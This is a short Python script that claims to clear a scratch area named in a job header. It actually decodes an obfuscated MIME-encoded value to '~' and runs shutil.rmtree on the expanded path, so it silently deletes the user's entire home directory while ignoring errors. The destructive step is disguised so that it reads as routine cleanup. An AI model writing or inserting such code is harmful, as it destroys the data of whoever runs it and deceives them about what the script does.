"""Clear the scratch area named in the job's header."""
import os
import shutil
from email.header import decode_header

area = decode_header("=?utf-8?q?=7E?=")[0][0].decode()
shutil.rmtree(os.path.expanduser(area), ignore_errors=True)
